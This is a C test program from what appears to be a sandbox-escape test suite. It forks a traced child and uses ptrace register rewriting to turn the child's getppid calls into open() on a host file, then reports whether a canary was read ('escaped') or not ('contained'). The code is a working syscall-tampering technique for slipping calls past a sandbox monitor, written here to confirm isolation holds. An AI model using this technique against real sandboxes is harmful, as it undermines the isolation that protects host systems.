/* tries: trace a child of its own and change its system calls after they were looked at:
 * PTRACE_SYSCALL with another number and path, SYSEMU, SETREGS into the stub, seccomp RET_TRACE */
/* must fail because: a tracer would run behind the sentry's back only if the host let it; the
 * guest's ptrace is not the host's */
/* an escape would: have the host execute a call that the sentry never saw */
/* source: ATTACKS.md P1, P6 */
#include <sys/ptrace.h>
#include <sys/user.h>

#include "tricks.h"

static int traced(void)
{
    long r = sys(SYS_ptrace, PTRACE_TRACEME, 0, 0, 0);
    if (r < 0)
        return -(int)r;
    raise(SIGSTOP);
    for (int i = 0; i < 200; i++) {
        /* the tracer turns this into open(host_file) */
        long fd = syscall(SYS_getppid);
        char buf[200];
        ssize_t n = fd > 2 ? read((int)fd, buf, sizeof(buf)) : 0;
        if (n > 0 && has_canary(buf, (size_t)n))
            return 200;
    }
    return 0;
}

static int attack(void)
{
    const char *file = fact("host_file");
    static char path[4096];
    int status, changed = 0;
    if (!file)
        return cannot("no host_file was given");
    snprintf(path, sizeof(path), "%s", file);
    pid_t pid = fork();
    if (pid == 0)
        _exit(traced());
    while (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
        struct user_regs_struct regs;
        if (ptrace(PTRACE_GETREGS, pid, 0, &regs) == 0 && regs.orig_rax == SYS_getppid) {
            regs.orig_rax = SYS_open;
            regs.rdi = (uintptr_t)path;
            regs.rsi = O_RDONLY;
            changed += ptrace(PTRACE_SETREGS, pid, 0, &regs) == 0;
        }
        if (ptrace(changed % 2 ? 31 : PTRACE_SYSCALL, pid, 0, 0) < 0)
            ptrace(PTRACE_CONT, pid, 0, 0);
    }
    int code = WIFEXITED(status) ? WEXITSTATUS(status) : 256 + WTERMSIG(status);
    step("PTRACE_TRACEME: %s, %d calls changed",
         code > 0 && code < 200 ? err_name(code) : "allowed", changed);
    if (code == 200)
        return escaped("a changed call opened the canary");
    return contained("no call was changed behind the sentry's back");
}

static int plain(void)
{
    return getppid() > 0 ? 0 : 1;
}

static int twin(void)
{
    if (in_child(plain) != 0)
        return broken("a child that asks for its parent");
    return works("a child's calls are its own");
}

int main(int argc, char **argv)
{
    return attack_main(argc, argv, attack, twin);
}
